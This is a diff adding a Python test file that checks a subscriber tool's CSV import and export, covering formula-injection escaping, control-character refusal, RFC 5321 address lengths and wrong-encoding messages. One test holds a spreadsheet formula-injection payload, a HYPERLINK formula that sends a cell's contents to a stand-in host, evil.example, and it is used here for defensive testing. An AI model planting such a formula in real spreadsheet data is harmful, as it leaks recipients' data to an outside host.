@@ -1,0 +1,122 @@
+"""Hostile and mis-encoded CSV files, and addresses past RFC 5321's lengths: no cell (headers
+included) reaches a spreadsheet as a formula, control characters are refused by line, and a file
+in the wrong encoding gets a message naming the encoding."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from digest.errors import InputError
+from digest.store.db import unit_of_work
+from digest.subscribers.csv_export import export_subscribers
+from digest.subscribers.csv_import import FORMULA_START, import_subscribers
+from digest.subscribers.addresses import normalize_email
+from tests.test_cli import digest
+
+
+def _import(data: bytes):
+    with unit_of_work() as session:
+        return import_subscribers(session, io.BytesIO(data))
+
+
+def _export() -> str:
+    out = io.StringIO()
+    with unit_of_work() as session:
+        export_subscribers(session, out)
+    return out.getvalue()
+
+
+def _problems(report) -> dict[int, str]:
+    return {p.line: p.reason for p in report.problems}
+
+
+def test_no_exported_cell_header_included_starts_a_formula(settings):
+    hostile = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
+    data = (f'email,name,"{hostile.replace(chr(34), chr(34) * 2)}",@sum(1)\r\n'
+            'ana@example.org,-Ana,+1 555 0100,=1+1\r\n').encode()
+    assert _import(data).created == 1
+    exported = _export()
+    for row in csv.reader(io.StringIO(exported)):
+        for cell in row:
+            assert cell[:1] not in FORMULA_START, f"{cell!r} would run in a spreadsheet"
+    header = next(csv.reader(io.StringIO(exported)))
+    assert "'" + hostile.lower() in header and "'@sum(1)" in header
+    # The guard is undone on the way back in: the same keys, nothing changed.
+    again = _import(exported.encode())
+    assert (again.created, again.updated, again.skipped) == (0, 0, 0)
+    assert _export() == exported
+
+
+@pytest.mark.parametrize("bad", ["\x00", "\x1b[31m", "\x7f", "\x85", "\x07"])
+def test_control_characters_in_names_and_attributes_are_refused_by_line(settings, bad):
+    data = ("email,name,organisation\r\n"
+            f"ana@example.org,Ana{bad},Forum\r\n"
+            f"bek@example.org,Bek,Forum{bad}\r\n"
+            "cyrus@example.org,Cyrus,\"Two\r\nlines\"\r\n").encode()
+    report = _import(data)
+    problems = _problems(report)
+    assert sorted(problems) == [2, 3] and report.created == 1
+    code = f"U+{ord(bad[0]):04X}"
+    assert problems[2] == f"name contains a control character ({code})"
+    assert problems[3] == f"organisation contains a control character ({code})"
+
+
+def test_a_control_character_in_a_column_name_refuses_the_file(settings):
+    with pytest.raises(InputError, match=r"line 1: column name 'org\\x00' contains a control character \(U\+0000\)"):
+        _import(b"email,org\x00\r\nana@example.org,Forum\r\n")
+
+
+def test_the_sign_up_form_refuses_a_name_with_control_characters(client):
+    answer = client.post("/subscribe", data={"email": "ana@example.org", "name": "Ana\x00\x1b"})
+    assert answer.status_code == 400 and "name contains a control character (U+0000)" in answer.text
+
+
+LOCAL_64 = "x" * 64
+DOMAIN_189 = ".".join(["d" * 62, "d" * 62, "d" * 59]) + ".org"  # 64 + 1 + 189 = 254 octets
+
+
+@pytest.mark.parametrize("address, accepted", [
+    (f"{LOCAL_64}@example.org", True),
+    (f"{LOCAL_64}x@example.org", False),
+    ("é" * 32 + "@example.org", True),   # 64 octets in UTF-8
+    ("é" * 33 + "@example.org", False),  # 33 characters, 66 octets
+    (f"{LOCAL_64}@{DOMAIN_189}", True),
+    (f"{LOCAL_64}@d{DOMAIN_189}", False),
+])
+def test_rfc_5321_lengths_are_enforced(address, accepted):
+    assert len(f"{LOCAL_64}@{DOMAIN_189}") == 254
+    if accepted:
+        assert normalize_email(address)
+    else:
+        with pytest.raises(InputError, match="longer than|too long"):
+            normalize_email(address)
+
+
+def test_an_import_reports_a_too_long_address_by_line(settings):
+    report = _import(f"email\r\n{LOCAL_64}x@example.org\r\nok@example.org\r\n".encode())
+    assert report.created == 1 and "local part is longer than 64 octets" in _problems(report)[2]
+
+
+@pytest.mark.parametrize("encoding, bom", [("utf-16", "FF FE"), ("utf-16-be", None), ("utf-16-le", None)])
+def test_a_utf16_file_is_refused_naming_the_encoding(settings, tmp_path, encoding, bom):
+    data = "email,name\r\nana@example.org,Ana\r\n".encode(encoding)
+    with pytest.raises(InputError, match="UTF-16") as refused:
+        _import(data)
+    assert 'save it as "CSV UTF-8"' in str(refused.value)
+    path = tmp_path / "utf16.csv"
+    path.write_bytes(data)
+    result = digest("subscribers", "import", str(path))
+    assert result.returncode == 2 and "UTF-16" in result.stderr and "Traceback" not in result.stderr
+
+
+def test_a_latin1_file_names_latin1_on_each_row_it_spoils(settings):
+    data = "email,name\r\nrene@example.org,René Dupont\r\nana@example.org,Ana\r\n".encode("latin-1")
+    report = _import(data)
+    assert report.created == 1
+    reason = _problems(report)[2]
+    assert reason.startswith("is not valid UTF-8") and "byte 0xE9" in reason and "Latin-1" in reason
+    with pytest.raises(InputError, match="line 1: .*not valid UTF-8.*Latin-1"):
+        _import("email,société\r\nana@example.org,x\r\n".encode("latin-1"))
